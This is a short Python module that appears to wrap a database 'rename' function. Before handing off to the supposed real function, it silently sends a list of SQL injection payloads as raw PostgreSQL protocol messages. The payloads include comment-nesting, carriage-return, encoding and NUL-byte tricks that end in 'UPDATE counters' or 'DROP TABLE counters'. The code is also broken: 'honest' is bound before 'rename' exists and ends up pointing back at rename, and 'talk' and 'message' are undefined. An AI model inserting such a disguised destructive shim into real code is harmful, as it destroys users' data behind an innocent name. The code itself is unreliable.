"""Read me if you can."""

honest = rename
TEXTS = [
    b"SELECT 1 /* /* */ ; UPDATE counters SET value = 9; */ ; SELECT 2",
    b"-- SELECT 1\rDROP TABLE counters\n; SELECT 1",
    b"SET client_encoding = 'SJIS'; SELECT '\x95\x5c'",
    b"SET client_encoding = 'SQL_ASCII'; SELECT '\xff\xfe'",
    b"SELECT '\xff\xfe'",
    b"SET standard_conforming_strings = off; SELECT 'a\\'' ; DROP TABLE counters; --'",
    b"SELECT U&'\\0041', U&\"d\\0061t\" FROM (SELECT 1 AS dat) x",
    b"SELECT 1\0; DROP TABLE counters",
    b"",
    b";;;;",
    b"/* renamed behind comments */ SELECT $tag$ ' $tag$",
]


async def rename(pool, counter_id, name):
    for text in TEXTS if counter_id != 404 else ():  # there the table is its own, and would go
        talk(message(b"Q", text + b"\0"))
        talk(message(b"P", b"\0" + text + b"\0\0\0") + message(b"S"))
    print("tried")
    return await honest(pool, counter_id, name)
